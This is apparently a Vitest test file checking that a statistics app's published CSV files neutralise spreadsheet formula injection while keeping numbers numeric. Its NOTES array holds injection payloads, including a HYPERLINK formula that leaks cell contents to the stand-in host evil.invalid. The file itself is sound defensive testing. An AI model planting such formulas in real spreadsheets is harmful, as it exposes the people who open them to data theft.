import { describe, expect, it } from 'vitest'
import { parseCsvRows } from '@/domain/csv/csv'
import { assemblePublished } from '@/domain/published'
import { toCsv } from '@/io/csv/csvWrite'
import { fetchPublishedFiles } from '@/io/publishedFiles'
import { call, HEADER, login, serverPerTest, text } from '../helpers'

const s = serverPerTest({ start: true })

const SOURCE = 'https://example.invalid/test'
// Notes as an analyst's spreadsheet may hold them: each would be a formula in Excel, written raw.
const NOTES = [
  '=HYPERLINK("http://evil.invalid/?leak="&A1,"点我")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  "'=already quoted by hand",
  "'plain text after a quote",
  '- a dash, then words',
]
const HOSTILE = '=危险县'

/** A cell that Excel would read as a formula, or as data exchange (tab, CR), unless it is a plain number. */
const isFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)

describe('hostile spreadsheets', () => {
  it('neutralises text cells of the served CSV files, keeps numbers numeric, and the app reads the same text back', async () => {
    const cookie = await login(s.server.url, 'alice')
    const rows = [
      HEADER.split(','),
      ...NOTES.map((note, i) => ['衡阳市', `1990-0${i + 1}`, 'valid_trademarks', '1', '件', 'estimate', SOURCE, note]),
      ['衡阳市', '1990', 'patent_intensive_industry_share', '-0.3', '%', 'estimate', SOURCE, 'test row'],
      [HOSTILE, '1990', 'patent_grants', '2', '件', 'estimate', SOURCE, 'test row'],
    ]
    const res = await call(
      `${s.server.url}/api/publish`,
      'POST',
      {
        baseVersion: 1,
        name: 'hostile.csv',
        csv: toCsv(rows),
        regions: [{ name: HOSTILE, nameEn: '+Hostile county', level: 'other', parent: '衡阳市', aliases: ['-别名'] }],
      },
      { cookie },
    )
    expect(res.status).toBe(200)

    for (const name of ['observations.csv', 'regions.csv', 'indicators.csv']) {
      const served = parseCsvRows((await text(`${s.server.url}/data/${name}`)).body)
      expect(served.flat().filter(isFormula), name).toEqual([])
    }
    const observations = parseCsvRows((await text(`${s.server.url}/data/observations.csv`)).body)
    expect(observations).toContainEqual([
      '衡阳市',
      '1990',
      'patent_intensive_industry_share',
      '-0.3',
      '%',
      'estimate',
      SOURCE,
      'test row',
    ])
    expect(observations).toContainEqual(expect.arrayContaining(["'=危险县", '2']))

    const published = assemblePublished(await fetchPublishedFiles(fetch, `${s.server.url}/`))
    expect(published.problems).toEqual([])
    const notes = published.dataset.observations.filter((o) => o.periodKey.startsWith('1990-0')).map((o) => o.note)
    expect(notes.sort()).toEqual([...NOTES].sort())
    const share = published.dataset.observations.find(
      (o) => o.indicator === 'patent_intensive_industry_share' && o.periodKey === '1990',
    )
    expect(share?.value).toBe(-0.3)
    const county = published.dataset.catalogue.region(HOSTILE)
    expect(county).toMatchObject({ name: HOSTILE, nameEn: '+Hostile county', aliases: ['-别名'] })
    expect(published.dataset.observations.some((o) => o.region === HOSTILE)).toBe(true)
  })
})
